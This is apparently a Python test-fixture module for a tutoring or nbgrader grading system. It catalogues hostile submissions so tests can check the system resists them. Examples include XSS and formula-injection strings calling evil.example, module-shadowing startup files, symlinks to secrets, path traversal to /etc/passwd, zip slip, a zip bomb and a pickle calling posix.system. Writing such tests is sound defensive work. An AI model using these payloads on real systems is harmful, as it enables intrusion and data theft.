"""What somebody could send to a tutor to do harm: a catalogue, a line or a few each.

`TEXTS` are words for a reflection, a plan or a name; whoever shows such words tests with them.
`BESIDE` are files beside honest answers, as in an nbgrader submission, or put into
``submitted/`` by hand. `ARRIVALS` are files in an inbox.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell

from tests.tutor.course import ASSIGNMENT, CHOICE, REFLECT, answer_file, hand_in, right
from tests.tutor.mails import e_mail

CANARY = "window.hostile"
"""What scripts in `TEXTS` set: a page on which it is defined has run one of them."""

_SHOT = f"{CANARY}=1"

TEXTS: dict[str, str] = {
    "script": f"<script>{_SHOT}</script>",
    "script in two cases": f"<ScRiPt>{_SHOT}</sCrIpT >",
    "image with a handler": f"<img src=x onerror='{_SHOT}'>",
    "svg with a handler": f"<svg onload={_SHOT}><circle r=9></svg>",
    "details with a handler": f"<details open ontoggle={_SHOT}>x</details>",
    "frame": f'<iframe srcdoc="<script>parent.{_SHOT}</script>"></iframe>',
    "form": "<form action=https://evil.example/><input name=a autofocus><button>Go</button></form>",
    "link of a script": f"<a href='javascript:{_SHOT}'>Read more</a>",
    "markdown link of a script": f"[Read more](javascript:{_SHOT})",
    "markdown picture": "![x](https://evil.example/pixel.png)",
    "markdown html": f"**bold** <b onclick={_SHOT}>x</b>\n\n# Heading\n\n```\ncode\n```",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "base and refresh": "<base href=//evil.example/><meta http-equiv=refresh content=0>",
    "end of a text area": f"</textarea></pre></script><script>{_SHOT}</script>",
    "end of a comment": f"--><script>{_SHOT}</script><!--",
    "attribute's end": f'"\' onmouseover={_SHOT} x="',
    "entities": f"&lt;script&gt;{_SHOT}&lt;/script&gt; &#60;img src=x onerror={_SHOT}&#62;",
    "template": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    "mathematics": r"$\href{javascript:window.hostile=1}{x}$ \(\unicode{x1F600}\) $$\require{a}$$",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Read")',
    "formula with a plus": "+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line's end": "x\r\n=1+1\n-1+1",
    "turned text": "abc \u202e gpj.exe \u2066 x \u2069 \u200b\u200d\ufeff",
    "control characters": "a\x00b\x07c\x1b[31md\x1b]0;title\x07e\x7f\x9b2J",
    "half a pair": "a\ud800b\udfff",
    "no characters": "\ufffe\uffff\U0010ffff",
    "a tower of accents": "a" + "\u0301" * 300,
    "one word without an end": "x" * 10_000,
    "markers of nbgrader": "### BEGIN SOLUTION\n### END HIDDEN TESTS\n### BEGIN MARK SCHEME",
}


@dataclass(frozen=True, slots=True)
class Trap:
    """What must not happen: the canary comes into being, or the secret is seen elsewhere."""

    canary: Path
    secret: Path

    @property
    def shot(self) -> str:
        """Code that leaves the canary behind when it is run."""
        return f"import os; os.close(os.open({str(self.canary)!r}, os.O_CREAT))"


Beside = Callable[[Path, Trap], None]
Sent = Callable[[Path, str, Trap], None]


def _file(name: str) -> Beside:
    def build(folder: Path, trap: Trap) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(trap.shot)

    return build


def _notebook(change: Callable[[Any, Trap], None]) -> Beside:
    def build(folder: Path, trap: Trap) -> None:
        path = folder / "cases.ipynb"
        notebook = nbformat.from_dict(json.loads(path.read_bytes()))
        change(notebook, trap)
        path.write_text(json.dumps(notebook))

    return build


def _extra_cells(notebook: Any, trap: Trap) -> None:
    notebook.cells.insert(0, new_code_cell(trap.shot, id="extra"))


def _altered_locked_cells(notebook: Any, trap: Trap) -> None:
    for cell in notebook.cells:
        cell.source = f"{trap.shot}\n999"


def _altered_metadata(notebook: Any, trap: Trap) -> None:
    for cell in notebook.cells:
        changes = {"points": 999, "locked": False, "solution": True, "schema_version": 99}
        cell.metadata = {"tags": ["skip-execution"], "nbgrader": {**cell.metadata, **changes}}


def _duplicate_ids(notebook: Any, trap: Trap) -> None:
    notebook.cells.extend(cell.copy() for cell in notebook.cells[:])


def _other_kernel(notebook: Any, trap: Trap) -> None:
    notebook.metadata["kernelspec"] = {"name": "../evil", "display_name": "e", "language": "sh"}


def _deep_outputs(notebook: Any, trap: Trap) -> None:
    deep: Any = {}
    for _ in range(300):
        deep = {"a": deep}
    notebook.metadata["deep"] = deep


def _link(name: str, folder: bool = False) -> Beside:
    def build(place: Path, trap: Trap) -> None:
        (place / name).unlink(missing_ok=True)
        (place / name).symlink_to(trap.secret.parent if folder else trap.secret)

    return build


def _hard_link(place: Path, trap: Trap) -> None:
    (place / "notes.txt").hardlink_to(trap.secret)


def _pipe(place: Path, trap: Trap) -> None:
    os.mkfifo(place / "pipe.json")


def _no_notebook(place: Path, trap: Trap) -> None:
    (place / "cases.ipynb").write_bytes(b"[" * 100_000)


def _extra_notebook(folder: Path, trap: Trap) -> None:
    notebook = json.loads((folder / "cases.ipynb").read_bytes())
    notebook["cells"][0]["source"] = trap.shot
    (folder / "evil.ipynb").write_text(json.dumps(notebook))


BESIDE: dict[str, Beside] = {
    "extra cells": _notebook(_extra_cells),
    "altered locked cells": _notebook(_altered_locked_cells),
    "altered metadata": _notebook(_altered_metadata),
    "duplicate ids": _notebook(_duplicate_ids),
    "another kernel": _notebook(_other_kernel),
    "deep notebook": _notebook(_deep_outputs),
    "no notebook": lambda folder, trap: (
        (folder / "cases.ipynb").write_bytes(b"[" * 100_000) and None
    ),
    "a second notebook": _extra_notebook,
    "our own module": _file("place_kit.py"),
    "our own package": _file("place_kit/__init__.py"),
    "a module of Python's": _file("json.py"),
    "another of Python's": _file("pathlib.py"),
    "the kernel's start": _file("ipykernel_launcher.py"),
    "the kernel's package": _file("ipykernel/__init__.py"),
    "sitecustomize": _file("sitecustomize.py"),
    "usercustomize": _file("usercustomize.py"),
    "IPython's settings": _file("ipython_config.py"),
    "IPython's startup": _file(".ipython/profile_default/startup/00.py"),
    "a profile": _file("profile_default/startup/00.py"),
    "Jupyter's settings": _file("jupyter_config.py"),
    "nbgrader's settings": _file("nbgrader_config.py"),
    "pytest's settings": _file("conftest.py"),
    "a path file": _file("evil.pth"),
    "a library": _file("traitlets.so"),
    "a reserved name": _file("con.py"),
    "a link to a secret": _link("link.json"),
    "a link to a folder": _link("linked", folder=True),
    "a link for a notebook": _link("cases.ipynb"),
    "a hard link": _hard_link,
    "a pipe": _pipe,
}


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return raw.getvalue()


def _raw(name: str, make: Callable[[str, Trap], bytes]) -> Sent:
    def build(inbox: Path, learner: str, trap: Trap) -> None:
        (inbox / name).write_bytes(make(learner, trap))

    return build


def _json(make: Callable[[str], bytes]) -> Sent:
    return _raw("x.json", lambda learner, trap: make(learner))


def _changed(**changes: Any) -> Sent:
    return _json(lambda learner: hand_in(**{"learner": learner, **changes}))


def _given(value: Any, question: str = CHOICE.id) -> Sent:
    return _json(lambda learner: hand_in(learner, {**right(), question: value}))


def _within(text: str) -> Sent:
    """JSON that Python's own writer would not write."""
    return _json(
        lambda learner: hand_in(learner, {**right(), CHOICE.id: "HERE"}).replace(
            b'"HERE"', text.encode("utf-8", "surrogatepass")
        )
    )


def _zipped(*names: str) -> Sent:
    return _raw("x.zip", lambda learner, trap: _zip(*((name, hand_in(learner)) for name in names)))


def _link_in_zip(learner: str, trap: Trap) -> bytes:
    info = zipfile.ZipInfo("x.json")
    info.external_attr = 0o120777 << 16
    return _zip((info, str(trap.secret).encode()))


def _linked(inbox: Path, learner: str, trap: Trap) -> None:
    (inbox / "x.json").symlink_to(trap.secret)


def _linked_folder(inbox: Path, learner: str, trap: Trap) -> None:
    (inbox / "x").symlink_to(trap.secret.parent)


def _linked_answers(inbox: Path, learner: str, trap: Trap) -> None:
    place = inbox / learner / ASSIGNMENT
    place.mkdir(parents=True)
    (place / "answers.json").symlink_to(trap.secret)


def _hard_linked(inbox: Path, learner: str, trap: Trap) -> None:
    (inbox / "x.docx").hardlink_to(trap.secret)


def _pipes(inbox: Path, learner: str, trap: Trap) -> None:
    os.mkfifo(inbox / "x.json")
    os.mkfifo(inbox / "x.zip")
    os.mkfifo(inbox / "Inbox")


def _forged_time(inbox: Path, learner: str, trap: Trap) -> None:
    place = inbox / learner / ASSIGNMENT
    place.mkdir(parents=True)
    (place / "answers.json").write_bytes(answer_file(right()))
    (place / "timestamp.txt").write_bytes(b"9999-99-99 00:00:00 UTC\n\x1b[31m")


def _mailed(learner: str, trap: Trap) -> bytes:
    evil = "../../../submitted/x/answers.json"
    return e_mail((evil, hand_in(learner)), ("=cmd|' '!A0.json", b"{"), ("a.py", b"x")).as_bytes()


ARRIVALS: dict[str, Sent] = {
    "deep JSON": _json(lambda learner: b"[" * 200_000 + b"]" * 200_000),
    "deep answer": _within("[" * 5_000 + "]" * 5_000),
    "huge JSON": _json(lambda learner: b'{"a":"' + b"x" * 3_000_000 + b'"}'),
    "a thousand answers": _json(
        lambda learner: hand_in(learner, {f"q{n}": n for n in range(1000)})
    ),
    "not UTF-8": _json(lambda learner: hand_in(learner)[:-9] + b"\xff\xfe" + hand_in(learner)[-9:]),
    "a byte order mark": _json(lambda learner: b"\xef\xbb\xbf" + hand_in(learner)),
    "a key twice": _json(lambda learner: hand_in(learner)[:-1] + b', "learner": "../../x"}'),
    "NaN": _within("NaN"),
    "Infinity": _within("-Infinity"),
    "a huge number": _within("9" * 4_000),
    "too huge a number": _within("9" * 9_000),
    "a huge exponent": _within("1e999999"),
    "half a pair": _within(r'"\ud800"'),
    "half a pair in an id": _changed(learner="\ud800"),
    "wrong types for all": _changed(assignment=[], learner={}, made=1, answers=None, version=[]),
    "a list for an option": _given([CHOICE.options[0].id]),
    "a text for a list": _given("x" * 100, question="03_cases.graded.claims"),
    "a list for a text": _given(["<script>"], question=REFLECT.id),
    "true for a number": _given(True),
    "prototype": _given({"__proto__": {"x": 1}, "__class__": "x"}),
    "a path for an id": _changed(learner="../../../etc/passwd"),
    "an absolute path for an id": _changed(learner="/etc/passwd"),
    "a path for an assignment": _changed(assignment="../03_cases"),
    "a null in an id": _changed(learner="ada.l\x00.txt"),
    "a formula for an id": _changed(learner="=1+1"),
    "markup for an id": _changed(learner="<script>alert(1)</script>"),
    "an id of 10,000 characters": _changed(learner="a" * 10_000),
    "a reserved name for an id": _changed(learner="con"),
    "a time to come": _changed(made="9999-12-31T23:59:59Z"),
    "no time": _changed(made="=NOW()"),
    "nested zips": _raw("x.zip", lambda learner, trap: _nested(6)),
    "a zip bomb": _raw("x.zip", lambda learner, trap: _zip(("x.json", b"\0" * 40_000_000))),
    "a zip of many": _raw(
        "x.zip", lambda learner, trap: _zip(*((f"{n}", b"") for n in range(6000)))
    ),
    "a way out of a zip": _zipped(
        "../../x.json", "/x.json", "..\\x.json", "C:\\x.json", "a/../../b.json"
    ),
    "a link in a zip": _raw("x.zip", _link_in_zip),
    "odd names in a zip": _zipped(
        "=cmd|x\u202egpj.json", "\x1b[31mred.json", "x" * 10_000 + ".json", "con.json"
    ),
    "half a zip": _raw("x.zip", lambda learner, trap: _zip(("x.json", b"{}"))[:40]),
    "a link": _linked,
    "a linked folder": _linked_folder,
    "linked answers": _linked_answers,
    "a secret by another name": _hard_linked,
    "pipes": _pipes,
    "a forged time": _forged_time,
    "a program": _raw("x.exe", lambda learner, trap: b"MZ"),
    "code that pickles": _raw("x.json", lambda learner, trap: b"cposix\nsystem\n(S'x'\ntR."),
    "names in an e-mail": _raw("x.eml", _mailed),
    "hostile MIME": _raw("x.eml", lambda learner, trap: _mime()),
    "a hostile mailbox": _raw("x.mbox", lambda learner, trap: b"From x\n\n" * 50),
    "an odd file name": _raw("=1+1 \u202e\x1b[31m.json", lambda learner, trap: b"{"),
}


def _nested(depth: int) -> bytes:
    raw = b"{}"
    for level in range(depth):
        raw = _zip((f"{level}.zip" if level else "x.json", raw))
    return raw


def _mime() -> bytes:
    return b"".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n'.encode() for n in range(2_000)
    )
